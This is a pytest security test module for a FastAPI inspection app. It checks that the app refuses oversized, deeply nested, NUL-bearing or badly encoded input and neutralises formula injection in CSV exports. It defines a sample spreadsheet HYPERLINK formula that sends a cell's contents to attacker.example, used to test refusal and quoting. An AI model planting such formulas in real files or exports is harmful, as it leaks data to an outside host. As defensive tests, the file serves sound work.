"""Hostile input: oversized, deep and huge bodies, formulas, odd encodings, NUL bytes."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from fastapi.testclient import TestClient
from sqlalchemy import func
from sqlmodel import Session, select

from app import config, db
from app.models import Case, CaseImport, EvidenceItem, Inspection
from app.models.imports import ImportKind
from tests.builders import make_case, make_inspection
from tests.security.world import World, build_world

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
IMPORT_HEADER = [
    "case_ref",
    "home_trust",
    "sex",
    "age_at_sentence",
    "sentence_type",
    "sentence_months",
    "rosh",
    "mappa_level",
    "ppo",
    "sentence_date",
    "rmp_sufficient",
]


def csv_upload(*case_refs: str) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(IMPORT_HEADER)
    for ref in case_refs:
        writer.writerow(
            [
                ref,
                "durham-tees-valley",
                "male",
                "30",
                "determinate",
                "48",
                "high",
                "0",
                "false",
                "2010-06-01",
                "yes",
            ]
        )
    return buffer.getvalue().encode()


def count(session: Session, model: type, *where: object) -> int:
    return session.exec(select(func.count()).select_from(model).where(*where)).one()


def assert_problem(response, *statuses: int) -> dict:
    assert response.status_code in statuses, response.text
    assert response.headers["content-type"] == "application/problem+json"
    return response.json()


@pytest.fixture
def world(session: Session) -> World:
    built = build_world(session, with_letter=False)
    session.commit()  # a refused request rolls back to here, not past the world
    return built


def post_import(client, world: World, body: bytes, content_type: str = "text/csv", **params):
    return client.post(
        f"/api/v1/inspections/{world.inspection_id}/case-imports",
        content=body,
        params=params,
        headers={**world.headers["admin"], "Content-Type": content_type},
    )


def imported_nothing(session: Session, world: World, cases_before: int) -> bool:
    return (
        count(session, Case, Case.inspection_id == world.inspection_id) == cases_before
        and count(
            session,
            CaseImport,
            CaseImport.inspection_id == world.inspection_id,
            CaseImport.kind == ImportKind.cases,
        )
        == 1
    )


# ---- size ------------------------------------------------------------------------------


def test_a_json_body_over_the_limit_is_413_declared_or_streamed(client, world):
    limit = config.get_settings().max_json_bytes
    body = json.dumps({"recommendations": ["x" * (limit + 10)]}).encode()
    url = f"/api/v1/inspections/{world.inspection_id}"
    headers = {**world.headers["admin"], "Content-Type": "application/json"}

    declared = client.patch(url, content=body, headers=headers)
    assert assert_problem(declared, 413)["type"] == "/problems/payload-too-large"

    def chunks() -> Iterator[bytes]:
        for start in range(0, len(body), 64 * 1024):
            yield body[start : start + 64 * 1024]

    streamed = client.patch(url, content=chunks(), headers=headers)
    assert_problem(streamed, 413)


@pytest.fixture
def small_upload_client(session: Session) -> Iterator[TestClient]:
    """The app with a 64 KB upload limit, on the test's session."""
    from app.main import create_app

    saved = os.environ.get("MAX_UPLOAD_BYTES")
    os.environ["MAX_UPLOAD_BYTES"] = str(64 * 1024)
    config.get_settings.cache_clear()
    try:
        application = create_app()
    finally:
        if saved is None:
            os.environ.pop("MAX_UPLOAD_BYTES")
        else:
            os.environ["MAX_UPLOAD_BYTES"] = saved
        config.get_settings.cache_clear()

    def test_session() -> Iterator[Session]:
        try:
            yield session
            session.commit()
        except BaseException:
            session.rollback()
            raise

    application.dependency_overrides[db.get_session] = test_session

    application.dependency_overrides[db.get_stream_session] = test_session
    with TestClient(application, raise_server_exceptions=False) as test_client:
        yield test_client


def test_an_import_over_the_limit_is_413_and_writes_nothing(small_upload_client, session, world):
    before = count(session, Case, Case.inspection_id == world.inspection_id)
    body = csv_upload(*(f"BIG-{n:05d}" for n in range(2000)))
    assert len(body) > 64 * 1024
    assert_problem(post_import(small_upload_client, world, body), 413)
    multipart = small_upload_client.post(
        f"/api/v1/inspections/{world.inspection_id}/case-imports",
        files={"file": ("cases.csv", body, "text/csv")},
        headers=world.headers["admin"],
    )
    assert_problem(multipart, 413)
    assert imported_nothing(session, world, before)


# ---- deep and huge JSON -------------------------------------------------------------------

DEEP_ARRAYS = "[" * 10_000 + "]" * 10_000
DEEP_OBJECTS = '{"a":' * 10_000 + "1" + "}" * 10_000


@pytest.mark.parametrize("body", [DEEP_ARRAYS, DEEP_OBJECTS], ids=["arrays", "objects"])
def test_deeply_nested_json_is_refused_not_crashed_on(client, world, body):
    headers = {**world.headers["admin"], "Content-Type": "application/json"}
    for method, url in [
        ("POST", "/api/v1/inspections"),
        ("PATCH", f"/api/v1/inspections/{world.inspection_id}"),
        ("POST", f"/api/v1/inspections/{world.inspection_id}/cases"),
        ("POST", f"/api/v1/inspections/{world.inspection_id}/evidence"),
        ("POST", "/api/v1/frameworks"),
    ]:
        response = client.request(method, url, content=body, headers=headers)
        assert_problem(response, 400, 422)
    line = post_import(client, world, body.encode() + b"\n", "application/x-ndjson")
    assert_problem(line, 400, 422)
    population = client.post(
        f"/api/v1/inspections/{world.inspection_id}/sample", content=body, headers=headers
    )
    assert_problem(population, 400, 422)


def test_deeply_nested_yaml_is_refused_not_crashed_on(client, world):
    headers = {**world.headers["admin"], "Content-Type": "application/yaml"}
    for body in ("[" * 10_000, "a:\n" + "- " * 5_000 + "x"):
        response = client.post("/api/v1/frameworks", content=body, headers=headers)
        assert_problem(response, 422)


def test_wide_json_under_the_limit_is_refused_with_located_faults(client, world):
    answers = {f"q{n}": "yes" for n in range(20_000)}
    response = client.post(
        f"/api/v1/inspections/{world.inspection_id}/cases",
        json={"case_ref": "WIDE-1", "answers": answers},
        headers=world.headers["admin"],
    )
    problem = assert_problem(response, 422)
    assert problem["errors"]


# ---- formulas ---------------------------------------------------------------------------


def test_a_formula_case_ref_is_refused_by_the_api_and_the_importer(client, session, world):
    before = count(session, Case, Case.inspection_id == world.inspection_id)
    response = client.post(
        f"/api/v1/inspections/{world.inspection_id}/cases",
        json={"case_ref": FORMULA, "home_trust": "durham-tees-valley"},
        headers=world.headers["admin"],
    )
    problem = assert_problem(response, 422)
    assert any("case_ref" in map(str, fault.get("loc") or []) for fault in problem["errors"])

    imported = post_import(client, world, csv_upload(FORMULA))
    faults = assert_problem(imported, 422)["errors"]
    assert {(fault["row"], fault["column"]) for fault in faults} == {(1, "case_ref")}
    assert imported_nothing(session, world, before)


def test_free_text_keeps_a_formula_as_text(client, world):
    url = f"/api/v1/inspections/{world.inspection_id}"
    patched = client.patch(url, json={"recommendations": [FORMULA]}, headers=world.headers["admin"])
    assert patched.status_code == 200, patched.text
    assert client.get(url, headers=world.headers["admin"]).json()["recommendations"] == [FORMULA]


def test_cases_csv_quotes_cells_a_spreadsheet_would_run(client, session, world):
    # "-2-3" is a valid pseudonymous ref, and a formula to a spreadsheet (= -5).
    inspection = session.get(Inspection, world.inspection_id)
    make_case(session, inspection, "-2-3")
    response = client.get(
        f"/api/v1/inspections/{world.inspection_id}/cases.csv", headers=world.headers["admin"]
    )
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text)))
    refs = [row[0] for row in rows[1:]]
    assert "'-2-3" in refs and "-2-3" not in refs
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.fixture
def formula_framework(client, session) -> str:
    """A framework whose first question's text is a formula, uploaded by an admin."""
    source = Path(__file__).parents[2] / "app" / "reference" / "omi-custody-2011.yaml"
    document = yaml.safe_load(source.read_text())
    document["code"] = "formula-test"
    document["version"] = 1
    document["instruments"][0]["questions"][0]["text"] = FORMULA
    response = client.post("/api/v1/frameworks", json=document, headers=_admin(session))
    assert response.status_code == 201, response.text
    return document["instruments"][0]["questions"][0]["code"]


def _admin(session: Session) -> dict[str, str]:
    from tests.security.world import account

    return account(session, ("admin",), None)[1]


def test_aggregates_csv_quotes_a_formula_in_question_text(client, session, formula_framework):
    inspection = make_inspection(session, framework="formula-test")
    make_case(session, inspection, "AGG-1", {formula_framework: "yes"})
    response = client.get(
        "/api/v1/aggregates",
        params={"framework": "formula-test", "format": "csv"},
        headers=_admin(session),
    )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    texts = [row["text"] for row in rows if row["question"] == formula_framework]
    assert texts == ["'" + FORMULA]
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(("=", "+", "@", "\t", "\r")), row


# ---- encodings and NUL ------------------------------------------------------------------


def test_latin_1_bytes_in_a_csv_are_a_clear_422(client, session, world):
    before = count(session, Case, Case.inspection_id == world.inspection_id)
    body = csv_upload("LATIN-1").replace(b"durham-tees-valley", "Durham Tées".encode("latin-1"))
    faults = assert_problem(post_import(client, world, body), 422)["errors"]
    assert [(fault["row"], fault["code"]) for fault in faults] == [(1, "invalid_encoding")]
    assert "UTF-8" in faults[0]["message"]
    assert imported_nothing(session, world, before)


def test_a_utf8_bom_is_accepted(client, session, world):
    response = post_import(client, world, b"\xef\xbb\xbf" + csv_upload("BOM-1"))
    assert response.status_code == 201, response.text
    refs = session.exec(select(Case.case_ref).where(Case.inspection_id == world.inspection_id))
    assert "BOM-1" in set(refs)


def test_nul_bytes_in_a_csv_are_refused(client, session, world):
    before = count(session, Case, Case.inspection_id == world.inspection_id)
    for body in (csv_upload("NUL\x00REF"), csv_upload("NUL-1").replace(b"male", b"ma\x00le")):
        assert_problem(post_import(client, world, body), 400, 422)
    assert imported_nothing(session, world, before)


def test_nul_characters_in_json_query_and_path_are_a_400(client, session, world):
    headers = world.headers["admin"]
    evidence = {
        "source": "document",
        "observed_on": "2011-09-13",
        "criteria": ["4.4a"],
        "text": "Needs analysis\u0000 read",
    }
    responses = [
        client.post(
            f"/api/v1/inspections/{world.inspection_id}/evidence", json=evidence, headers=headers
        ),
        client.patch(
            f"/api/v1/inspections/{world.inspection_id}",
            json={"recommendations": ["a\u0000b"]},
            headers=headers,
        ),
        client.get("/api/v1/inspections", params={"programme": "po\x00mi"}, headers=headers),
        client.get("/api/v1/cases/abc%00def", headers=headers),
    ]
    for response in responses:
        assert assert_problem(response, 400)["detail"] == "text may not contain NUL characters"
    assert count(session, EvidenceItem, EvidenceItem.inspection_id == world.inspection_id) == 1
    # Text that merely mentions the escape is fine.
    evidence["text"] = "The log showed \\u0000 markers."
    created = client.post(
        f"/api/v1/inspections/{world.inspection_id}/evidence", json=evidence, headers=headers
    )
    assert created.status_code == 201, created.text
    assert created.json()["text"] == "The log showed \\u0000 markers."
